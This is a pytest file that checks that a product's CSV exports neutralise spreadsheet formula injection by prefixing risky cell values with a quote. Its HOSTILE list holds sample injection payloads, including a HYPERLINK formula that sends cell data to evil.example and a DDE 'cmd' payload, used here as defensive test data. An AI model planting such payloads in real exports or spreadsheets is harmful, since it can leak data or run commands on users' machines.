"""Exported CSV files cannot carry spreadsheet formulas: a value a spreadsheet would run
(``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a leading tab or CR) is written with a leading
``'`` in every CSV the product writes (cells.csv and the imagefolder's manifest.csv)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from annotation.services.exports.formats.csv import CsvTable, csv_safe

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_quoted(value) -> None:
    assert csv_safe(value) == "'" + value


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert csv_safe("NE") == "NE" and csv_safe("a=b") == "a=b" and csv_safe("") == ""
    assert csv_safe(-0.5) == -0.5 and csv_safe(None) is None and csv_safe(3) == 3
    table = CsvTable(["a", "b"])
    table.add({"a": "=1+1", "b": -1})
    assert table.text() == "a,b\n'=1+1,-1\n"


def test_every_exported_csv_escapes_formulas(clients, smear) -> None:
    case = smear["case"]
    case.diagnosis = HOSTILE[0]
    case.save(update_fields=["diagnosis"])
    cell = smear["labelled"][0]
    cell.original_filename = "@cell.jpg"
    cell.save(update_fields=["original_filename"])
    for fmt, name in (("csv", "cells.csv"), ("imagefolder", "manifest.csv")):
        response = clients["data_scientist"].get(f"/api/exports/?format={fmt}")
        assert response.status_code == 200
        zf = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
        rows = list(csv.DictReader(io.StringIO(zf.read(name).decode())))
        row = next(r for r in rows if r["cell_id"] == str(cell.pk))
        assert row["case_diagnosis"] == "'" + HOSTILE[0], name
        assert row["original_filename"] == "'@cell.jpg", name
        for r in rows:
            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()), r
